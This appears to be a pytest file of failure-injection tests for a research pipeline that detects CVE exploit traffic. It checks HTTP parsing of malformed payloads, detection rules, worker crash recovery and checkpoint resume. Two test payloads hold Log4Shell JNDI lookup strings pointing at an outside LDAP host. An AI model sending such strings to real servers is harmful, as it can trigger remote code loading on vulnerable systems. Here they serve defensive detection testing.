"""Failure-injection tests: the pipeline must be robust to malformed,
adversarial, and degenerate inputs at every layer — and, for the scan
pipeline, to worker death and mid-run kills (:class:`TestScanRecovery`)."""

from datetime import timedelta

import pytest

from repro.cache import CheckpointStore
from repro.datasets.seed_cves import STUDY_WINDOW
from repro.exploits.rulegen import build_study_ruleset
from repro.net.http import parse_http_request
from repro.net.pcapstore import SessionStore
from repro.net.session import TcpSession
from repro.nids.engine import DetectionEngine, scan_stream
from repro.nids.parallel import InjectedFault, ScanAborted, parallel_scan
from repro.telescope.collector import DscopeCollector
from repro.traffic.arrivals import ScanArrival
from repro.traffic.generator import TrafficConfig, TrafficGenerator
from repro.util.timeutil import utc

T0 = utc(2022, 1, 1)


def _session(payload, sid=0, port=80):
    return TcpSession(
        session_id=sid, start=T0, src_ip=1, src_port=1024,
        dst_ip=2, dst_port=port, payload=payload,
    )


MALFORMED_PAYLOADS = [
    b"",                                        # empty
    b"\x00" * 1024,                             # null flood
    b"GET",                                     # truncated request line
    b"GET / HTTP/1.1",                          # no header terminator
    b"GET / HTTP/1.1\r\nHost",                  # torn header
    b"\xff\xfe" + "GET / HTTP/1.1\r\n\r\n".encode("utf-16-le"),  # UTF-16
    b"A" * 100_000,                             # oversized
    "GET /ünïcödé HTTP/1.1\r\n\r\n".encode(),   # non-ascii URI
    b"POST / HTTP/1.1\r\nContent-Length: 99999\r\n\r\nshort",  # lying CL
    b"GET " + b"/" * 5000 + b" HTTP/1.1\r\n\r\n",  # absurd URI
    b"\r\n\r\n\r\n",                            # separators only
    b"HTTP/1.1 200 OK\r\n\r\n",                 # a response, not a request
]


class TestHttpParserRobustness:
    @pytest.mark.parametrize("payload", MALFORMED_PAYLOADS,
                             ids=range(len(MALFORMED_PAYLOADS)))
    def test_never_raises(self, payload):
        # Either parses to something or returns None; never throws.
        parse_http_request(payload)


class TestEngineRobustness:
    @pytest.fixture(scope="class")
    def engine(self):
        return DetectionEngine(build_study_ruleset())

    def test_malformed_payloads_scan_cleanly(self, engine):
        sessions = [
            _session(payload, sid=index)
            for index, payload in enumerate(MALFORMED_PAYLOADS)
        ]
        alerts = engine.scan(sessions)
        # Nothing malformed matches a CVE signature.
        assert alerts == []

    def test_anchor_in_wrong_buffer_does_not_match(self, engine):
        # A Log4Shell token in a *response-shaped* payload is not a request
        # and must not alert.
        payload = b"HTTP/1.1 200 OK\r\nX-V: ${jndi:ldap://x/a}\r\n\r\n"
        assert engine.ruleset.match_session(_session(payload)) is None

    def test_exploit_token_in_user_agent_matches_header_rule(self, engine):
        # Header-buffer rules see every non-cookie header, wherever the
        # scanner hides the token.
        payload = (
            b"GET / HTTP/1.1\r\nHost: h\r\n"
            b"User-Agent: ${jndi:ldap://1.2.3.4/a}\r\n\r\n"
        )
        alert = engine.ruleset.match_session(_session(payload))
        assert alert is not None
        assert alert.cve_id == "CVE-2021-44228"


class TestCollectorRobustness:
    def test_zero_payload_arrivals_become_sessions(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        arrivals = [
            ScanArrival(
                timestamp=STUDY_WINDOW.start + timedelta(minutes=i),
                src_ip=1, src_port=1024, dst_port=80, payload=b"",
            )
            for i in range(5)
        ]
        store = collector.collect(arrivals)
        assert len(store) == 5
        # And the engine skips them without alerting.
        assert DetectionEngine(build_study_ruleset()).scan(store) == []

    def test_identical_timestamps_accepted(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        when = STUDY_WINDOW.start + timedelta(hours=1)
        arrivals = [
            ScanArrival(timestamp=when, src_ip=i + 1, src_port=1024,
                        dst_port=80, payload=b"x")
            for i in range(10)
        ]
        store = collector.collect(arrivals)
        assert len(store) == 10

    def test_extreme_ports(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        arrivals = [
            ScanArrival(
                timestamp=STUDY_WINDOW.start + timedelta(minutes=i),
                src_ip=1, src_port=port, dst_port=port, payload=b"x",
            )
            for i, port in enumerate((0, 1, 65535))
        ]
        store = collector.collect(arrivals)
        assert len(store) == 3


class TestScanRecovery:
    """Injected worker faults: the scan must recover, stay byte-identical
    to serial, and account for every fault in its telemetry."""

    #: Telemetry counters that measure *scan work* (as opposed to recovery
    #: bookkeeping or wall-clock timings) — these must match serial exactly
    #: no matter what faults were injected.
    WORK_COUNTERS = (
        "sessions", "payload_bytes", "prefilter_hits",
        "candidates_nominated", "candidates_evaluated",
        "match_cache_hits", "match_cache_misses",
    )

    @pytest.fixture(scope="class")
    def world(self):
        """(ruleset, sessions, serial alerts/scanned, clean-parallel telemetry).

        Alerts and counts are compared against the *serial* scan (the
        byte-identity contract); work-counter telemetry against a clean
        ``workers=2`` scan, because the match-cache memoises per chunk, so
        chunked scans legitimately count prefilter work differently from
        one serial sweep.
        """
        generator = TrafficGenerator(
            TrafficConfig(seed=7, volume_scale=0.01, background_per_exploit=0.3)
        )
        store = DscopeCollector(window=STUDY_WINDOW).collect(generator.generate())
        ruleset = build_study_ruleset()
        sessions = list(store)
        alerts, scanned, _ = scan_stream(ruleset, sessions)
        # threshold=0 forces the pool on: this world is far below the
        # break-even size, and serial fallback would make every recovery
        # assertion vacuous.  (Explicit here because class-scoped fixtures
        # run before the function-scoped env monkeypatch below.)
        clean_alerts, clean_scanned, clean_telemetry = parallel_scan(
            ruleset, sessions, workers=2, threshold=0
        )
        assert clean_alerts == alerts and clean_scanned == scanned
        return ruleset, sessions, alerts, scanned, clean_telemetry

    @pytest.fixture(autouse=True)
    def _deterministic_recovery(self, monkeypatch):
        monkeypatch.setenv("REPRO_RETRY_BACKOFF", "0")
        monkeypatch.setenv("REPRO_PARALLEL_THRESHOLD", "0")
        monkeypatch.delenv("REPRO_FAULT", raising=False)

    def _assert_identical(self, world, outcome):
        _, _, serial_alerts, serial_scanned, clean_telemetry = world
        alerts, scanned, telemetry = outcome
        assert alerts == serial_alerts
        assert scanned == serial_scanned
        for name in self.WORK_COUNTERS:
            assert getattr(telemetry, name) == getattr(clean_telemetry, name), name

    def test_worker_crash_recovers_identically(self, world, monkeypatch):
        ruleset, sessions, *_ = world
        monkeypatch.setenv("REPRO_FAULT", "worker_crash:1")
        outcome = parallel_scan(ruleset, sessions, workers=2)
        self._assert_identical(world, outcome)
        telemetry = outcome[2]
        # One crash → exactly one pool generation lost; the crashed chunk
        # (plus any collateral in-flight chunks) was retried and recovered.
        assert telemetry.pool_respawns == 1
        assert telemetry.poison_chunks == 0
        assert telemetry.chunk_retries >= 1
        assert telemetry.recovered_chunks >= 1

    def test_chunk_error_retries_in_same_pool(self, world, monkeypatch):
        ruleset, sessions, *_ = world
        monkeypatch.setenv("REPRO_FAULT", "chunk_error:2")
        outcome = parallel_scan(ruleset, sessions, workers=2)
        self._assert_identical(world, outcome)
        telemetry = outcome[2]
        # A chunk-level exception implicates only that chunk: no respawn,
        # one retry, one recovery — all exact.
        assert telemetry.pool_respawns == 0
        assert telemetry.chunk_retries == 1
        assert telemetry.recovered_chunks == 1
        assert telemetry.poison_chunks == 0

    def test_poison_chunk_falls_back_to_serial(self, world, monkeypatch):
        ruleset, sessions, *_ = world
        monkeypatch.setenv("REPRO_FAULT", "chunk_error:0:99")
        outcome = parallel_scan(ruleset, sessions, workers=2)
        self._assert_identical(world, outcome)
        telemetry = outcome[2]
        assert telemetry.poison_chunks == 1
        assert telemetry.chunk_retries == 1
        assert telemetry.recovered_chunks == 0
        assert telemetry.pool_respawns == 0

    def test_always_crashing_chunk_poisons_not_hangs(self, world, monkeypatch):
        ruleset, sessions, *_ = world
        monkeypatch.setenv("REPRO_FAULT", "worker_crash:0:99")
        outcome = parallel_scan(ruleset, sessions, workers=2)
        self._assert_identical(world, outcome)
        telemetry = outcome[2]
        # The chunk crashes on both its attempts (one per generation), so
        # exactly two generations die before it goes poison.
        assert telemetry.pool_respawns == 2
        assert telemetry.poison_chunks >= 1

    def test_fault_hook_callable(self, world, monkeypatch):
        from repro.nids import parallel

        def hook(chunk_index, attempt):
            if chunk_index == 3 and attempt == 1:
                raise InjectedFault("hook fault on chunk 3")

        monkeypatch.setattr(parallel, "_fault_hook", hook)
        ruleset, sessions, *_ = world
        outcome = parallel_scan(ruleset, sessions, workers=2)
        self._assert_identical(world, outcome)
        telemetry = outcome[2]
        assert telemetry.chunk_retries == 1
        assert telemetry.recovered_chunks == 1

    def test_killed_scan_resumes_from_checkpoints(
        self, world, monkeypatch, tmp_path
    ):
        ruleset, sessions, *_ = world
        store = CheckpointStore(root=tmp_path)
        monkeypatch.setenv("REPRO_FAULT", "scan_abort:3")
        with pytest.raises(ScanAborted):
            parallel_scan(
                ruleset, sessions, workers=2,
                checkpoint_store=store, checkpoint_key="scan",
            )
        saved = [n for n in store.names("scan") if n.startswith("chunk-")]
        assert len(saved) == 3  # exactly the chunks that completed

        monkeypatch.delenv("REPRO_FAULT")
        outcome = parallel_scan(
            ruleset, sessions, workers=2,
            checkpoint_store=store, checkpoint_key="scan",
        )
        self._assert_identical(world, outcome)
        # The three checkpointed chunks were served from disk, not rescanned.
        assert outcome[2].checkpoint_hits == 3

    def test_different_chunking_misses_checkpoints(
        self, world, monkeypatch, tmp_path
    ):
        ruleset, sessions, *_ = world
        store = CheckpointStore(root=tmp_path)
        monkeypatch.setenv("REPRO_FAULT", "scan_abort:2")
        with pytest.raises(ScanAborted):
            parallel_scan(
                ruleset, sessions, workers=2,
                checkpoint_store=store, checkpoint_key="scan",
            )
        monkeypatch.delenv("REPRO_FAULT")
        # A different partition must not reuse the spilled chunks.  (Only
        # alerts/counts are comparable here: chunking changes the per-chunk
        # match-cache, hence the work counters.)
        alerts, scanned, telemetry = parallel_scan(
            ruleset, sessions, workers=2, chunk_size=101,
            checkpoint_store=store, checkpoint_key="scan",
        )
        _, _, serial_alerts, serial_scanned, _ = world
        assert alerts == serial_alerts
        assert scanned == serial_scanned
        assert telemetry.checkpoint_hits == 0

    def test_study_killed_mid_scan_resumes(self, monkeypatch, tmp_path):
        from repro.analysis.pipeline import StudyConfig, run_study
        from repro.cache import StudyCache, study_key

        monkeypatch.setenv("REPRO_RETRY_BACKOFF", "0")
        config = StudyConfig(
            seed=7, volume_scale=0.01, background_per_exploit=0.3,
            background_nvd_count=500, workers=2,
        )
        cache = StudyCache(root=tmp_path)
        checkpoints = CheckpointStore(root=tmp_path)

        monkeypatch.setenv("REPRO_FAULT", "scan_abort:2")
        with pytest.raises(ScanAborted):
            run_study(config, cache=cache, checkpoints=checkpoints)
        key = study_key(config)
        names = checkpoints.names(key)
        assert "store" in names
        assert sum(1 for name in names if name.startswith("chunk-")) == 2

        monkeypatch.delenv("REPRO_FAULT")
        resumed = run_study(config, cache=cache, checkpoints=checkpoints)
        # The store and the two finished chunks came from disk (the arrival
        # stream is never checkpointed: a store checkpoint makes it moot).
        assert resumed.telemetry.checkpoints == ["store"]
        assert resumed.telemetry.scan.checkpoint_hits == 2
        assert not resumed.from_cache
        # Recovery state is deleted the moment the run succeeds...
        assert checkpoints.keys() == []
        # ...and the result is indistinguishable from an undisturbed run.
        plain = run_study(config)
        assert resumed.alerts == plain.alerts
        assert resumed.collection_stats == plain.collection_stats
        assert resumed.ground_truth == plain.ground_truth


class TestStoreRobustness:
    def test_jsonl_load_skips_blank_lines(self, tmp_path):
        store = SessionStore()
        store.append(_session(b"x", sid=1))
        path = tmp_path / "a.jsonl"
        store.save(path)
        path.write_text(path.read_text() + "\n\n")
        assert len(SessionStore.load(path)) == 1

    def test_jsonl_garbage_raises(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text("this is not json\n")
        with pytest.raises(Exception):
            SessionStore.load(path)

    def test_between_on_empty_store(self):
        store = SessionStore()
        assert list(store.between(T0, T0 + timedelta(days=1))) == []
